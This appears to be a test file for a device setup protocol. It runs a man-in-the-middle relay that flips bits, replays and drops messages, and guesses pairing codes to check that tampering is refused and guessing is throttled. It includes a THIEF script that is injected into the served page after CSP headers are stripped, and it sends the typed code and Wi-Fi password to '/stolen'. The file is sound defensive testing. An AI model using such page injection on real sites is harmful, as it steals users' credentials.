// SPDX-License-Identifier: Apache-2.0
// Goal: somebody between client and device can delay and break, but neither read nor change what is
// stored; guessing is slowed down, then blocked. And the honest limit: whoever serves the page owns it.
// Method: lib/relay.js between the Linux device and the page's session, or Chromium. Positions and
// bits by a printed seed. Afterwards the flash says what is stored.
import assert from 'node:assert/strict';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before } from 'node:test';
import { gunzipSync } from 'node:zlib';
import { openBrowser } from '../lib/browser.js';
import { Client, ITEM_ANYWAY, ITEM_PASSWORD, ITEM_REPOSITORY, ITEM_RESULT, ITEM_SSID, READ, SET, STATUS,
    waitSeconds } from '../lib/client.js';
import { setUp, submit } from '../lib/journeys.js';
import { Program, run } from '../lib/program.js';
import { createRandom } from '../lib/random.js';
import { bytesOf } from '../lib/real_device.js';
import { LCM, REPOSITORY, RealWorld } from '../lib/real_world.js';
import { Relay, pathOf } from '../lib/relay.js';
import { findSecret } from '../lib/secrets.js';
import { play } from '../lib/stage.js';

const PASSWORD = 'open sesame';
const WANTED = { wifi_ssid: 'home', wifi_password: PASSWORD, ota_repo: REPOSITORY };
const VALUES = [[ITEM_SSID, bytesOf('home')], [ITEM_PASSWORD, bytesOf(PASSWORD)],
    [ITEM_REPOSITORY, bytesOf(REPOSITORY)]];

const AT_ONCE = 4;

let browser, world;
before(async () => {
    browser = await openBrowser();
    world = await new RealWorld().open();
});
after(async () => {
    await browser.close();
    await world.close();
});

async function openRelay(stage, change, deviceOptions) {
    const device = await stage.device({
        kind: 'host', world, networks: [{ ssid: 'home', password: PASSWORD }], ...deviceOptions });
    const relay = await new Relay(device.port, change).open();
    stage.onClose(() => relay.close());
    return { device, relay };
}

// The device, as it is seen through the relay.
const behind = (relay, device) => ({ target: { ...device.target, base: `http://lcm.setup:${relay.port}` } });

const resultOf = items => items.find(([tag]) => tag === ITEM_RESULT)[1][0];

function flip(message, bit) {
    const body = Buffer.from(message.body);
    body[bit >> 3] ^= 1 << (bit & 7);
    return { ...message, body };
}

// Every bit of session id, number and tag, and some of the ciphertext. The relay asks the device with
// each changed copy, then passes the true message: nothing of it was used up.
play('any bit flipped in a sealed request: refused', {}, async stage => {
    const random = createRandom(stage.t);
    const bits = [...Array(128).keys(), ...Array.from({ length: 128 }, (_, i) => 8 * 1040 + i),
        ...Array.from({ length: 100 }, () => 128 + random.below(8 * 1024))];
    const answers = [];
    let isStriking = false;
    const { device, relay } = await openRelay(stage, {
        request: async message => {
            for (let i = 0; isStriking && i < bits.length; i += AT_ONCE)
                answers.push(...await Promise.all(bits.slice(i, i + AT_ONCE).map(async bit =>
                    (await relay.ask(flip(message, bit))).head.slice(9, 12))));
            isStriking = false;
            return message;
        },
    });
    const client = new Client(relay.port, device.code);
    await client.talk(READ);
    isStriking = true;
    assert.equal(resultOf(await client.send(SET, [...VALUES, [ITEM_ANYWAY, [1]]])), 0);
    assert.equal(answers.length, bits.length);
    for (const [i, status] of answers.entries())
        assert.equal(status, bits[i] < 64 ? '404' : '403', `bit ${bits[i]}`);
    assert.equal(await client.end(), 6);
    assert.deepEqual(device.settings(), WANTED);
    assert.deepEqual(findSecret(relay.bytes, PASSWORD), []);
});

play('any bit flipped in a sealed answer: the client takes nothing from it', {}, async stage => {
    const random = createRandom(stage.t);
    let bit = -1;
    const { device, relay } = await openRelay(stage, {
        answer: (message, request) => bit >= 0 && pathOf(request) === '/x' && message.head.includes(' 200 ')
            ? flip(message, bit) : message,
    }, { start: { options: ['--speed', '40'] } });
    const client = new Client(relay.port, device.code);
    for (const where of [0, 63, 64, 127, 128, 8 * 1040, 8 * 1056 - 1, ...[1, 2, 3, 4].map(() => random.below(8 * 1056))]) {
        bit = -1;
        assert.equal(resultOf(await client.talk(STATUS)), 0);
        bit = where;
        await assert.rejects(client.send(STATUS), error => error.status === 403 || error.status === 503, `bit ${bit}`);
    }
});

play('any bit flipped in the key exchange: no session', {}, async stage => {
    const random = createRandom(stage.t);
    const strikes = ['/p1 request', '/p1 answer', '/p2 request', '/p2 answer'].flatMap(where =>
        [0, 1, 2, 3, 4, 5].map(() => ({ where, bit: random.below(1 << 24) })));
    let strike = null;
    const hits = (message, path, way) => strike?.where === `${path} ${way}`
        ? flip(message, strike.bit % (8 * message.body.length)) : message;
    const { device, relay } = await openRelay(stage, {
        request: message => hits(message, pathOf(message), 'request'),
        answer: (message, request) => message.head.includes(' 200 ')
            ? hits(message, pathOf(request), 'answer') : message,
    }, { start: { options: ['--speed', '40'] } });
    for (strike of strikes) {
        const client = new Client(relay.port, device.code);
        await stage.until(async () => await waitSeconds(device.port) === 0);
        await assert.rejects(client.send(SET, [...VALUES, [ITEM_ANYWAY, [1]]]), JSON.stringify(strike));
    }
    assert.deepEqual(device.settings(), {});
});

play('messages again, in another order, in another session: refused', {}, async stage => {
    const { device, relay } = await openRelay(stage);
    const client = new Client(relay.port, device.code);
    await client.talk(READ);
    await client.talk(STATUS);
    await client.talk(SET, [...VALUES, [ITEM_ANYWAY, [1]]]);
    assert.equal(await client.end(), 6);
    const sealed = relay.seen.filter(({ request }) => pathOf(request) === '/x').map(({ request }) => request);
    assert.ok(sealed.length >= 3);
    for (const message of sealed)
        assert.match((await relay.ask(message)).head, /^HTTP\/1\.1 403 /);
    const proof = relay.seen.find(({ request }) => pathOf(request) === '/p2').request;
    assert.match((await relay.ask(proof)).head, /^HTTP\/1\.1 404 /);
    const other = new Client(relay.port, device.code);
    await other.talk(STATUS);
    const otherId = relay.seen.at(-1).request.body.subarray(0, 8);
    for (const { head, body } of sealed)
        assert.match((await relay.ask({ head, body: Buffer.concat([otherId, body.subarray(8)]) })).head,
            /^HTTP\/1\.1 403 /);
    assert.equal(resultOf(await other.talk(STATUS)), 0, 'the session goes on');
});

play('messages overtake each other: the late one is refused', {}, async stage => {
    let held = null, isHolding = false;
    const { device, relay } = await openRelay(stage, {
        request: message => {
            if (!isHolding || pathOf(message) !== '/x')
                return message;
            held = message;
            isHolding = false;
            return null;
        },
    });
    const client = new Client(relay.port, device.code);
    await client.talk(READ);
    isHolding = true;
    await assert.rejects(client.send(SET, [[ITEM_SSID, bytesOf('first')], [ITEM_ANYWAY, [1]]]));
    await client.talk(STATUS);
    assert.match((await relay.ask(held)).head, /^HTTP\/1\.1 403 /);
    assert.deepEqual(device.settings(), {});
});

play('answers and requests that vanish: the page tries on, what was entered is stored', {}, async stage => {
    const random = createRandom(stage.t);
    let isLossy = false, lost = 0;
    const lose = message => isLossy && random.below(8) === 0 && ++lost ? null : message;
    const { device, relay } = await openRelay(stage, { request: lose, answer: lose },
        { start: { options: ['--speed', '4'] } });
    const setup = await stage.visit(browser, behind(relay, device));
    await setup.open();
    isLossy = true;
    await setup.connect();
    await setup.scanEnd();
    await submit(setup, { network: 'home', password: PASSWORD, repo: REPOSITORY });
    await device.program.waitFor('set-up: stored', { timeoutMs: 60000 });
    assert.ok(lost > 0);
    assert.deepEqual(device.settings(), WANTED);
});

play('guessing codes: slower each time, then blocked; the right one waits as well', {}, async stage => {
    const { device } = await openRelay(stage, {}, { start: { options: ['--speed', '40'] } });
    const waits = [];
    for (let i = 0; i < 10; i++) {
        const client = new Client(device.port, '0000-0000-00' + String(i).padStart(2, '0'));
        await assert.rejects(client.send(STATUS), error => error.isCode === true);
        waits.push(await waitSeconds(device.port));
        if (i >= 6) // long enough to ask while it lasts
            await assert.rejects(new Client(device.port, device.code).send(STATUS),
                error => error.status === 429 && error.wait > 0);
        await stage.until(async () => i === 9 || await waitSeconds(device.port) === 0);
    }
    // Forty seconds of the device are one of ours: some have passed when it is asked.
    for (const [i, most] of [1, 2, 4, 8, 16, 32, 64, 64, 64, 300].entries())
        assert.ok(waits[i] <= most && waits[i] >= most - 36, `wait ${i}: ${waits[i]} of ${most} s`);
    await stage.until(async () => await waitSeconds(device.port) === 0);
    assert.equal(resultOf(await new Client(device.port, device.code).talk(STATUS)), 0);
});

// A page that sends what is typed to whoever served it.
const THIEF = '<script>addEventListener("submit",()=>fetch("/stolen",{method:"POST",body:' +
    'document.getElementById("code").value+"\\n"+document.getElementById("password").value}),true)</script>';

function stealer() {
    const stolen = [];
    return {
        stolen,
        request: message => {
            if (pathOf(message) !== '/stolen')
                return message;
            stolen.push(String(message.body));
            return null;
        },
        answer: (message, request) => pathOf(request) !== '/' ? message : {
            head: message.head.replace(/^content-(security-policy|encoding):.*\r\n/gim, ''),
            body: Buffer.concat([gunzipSync(message.body), Buffer.from(THIEF)]),
        },
    };
}

play('the honest limit: a changed page steals what is typed into it', {}, async stage => {
    const change = stealer();
    const { device, relay } = await openRelay(stage, change);
    const setup = await stage.visit(browser, behind(relay, device));
    assert.equal((await setUp(setup, { network: 'home', password: PASSWORD, repo: REPOSITORY })).result, 'done');
    assert.ok(change.stolen.some(text => text.includes(PASSWORD)), 'this is what docs/THREATS.md says');
});

const hasCommand = run([LCM, 'setup', '--help']).code === 0;

play('the same relay and lcm setup: it brings its own program, nothing is to be had',
    { skip: !hasCommand && 'this build has no lcm setup' }, async stage => {
        const change = stealer();
        const { device, relay } = await openRelay(stage, change);
        const [code, settings] = [join(device.folder, 'code'), join(device.folder, 'settings')];
        writeFileSync(code, device.code + '\n');
        writeFileSync(settings, Object.entries(WANTED).map(entry => entry.join('=') + '\n').join(''));
        const command = new Program([LCM, 'setup', '--url', `http://127.0.0.1:${relay.port}`, '--code-file', code,
            '--settings', settings, '--json']);
        assert.equal(await command.ended, 0, command.story());
        assert.deepEqual(device.settings(), WANTED);
        assert.deepEqual(change.stolen, []);
        assert.ok(relay.seen.length > 4);
        for (const secret of [PASSWORD, device.code, device.code.replaceAll('-', '')])
            assert.deepEqual(findSecret(relay.bytes, secret), []);
    });
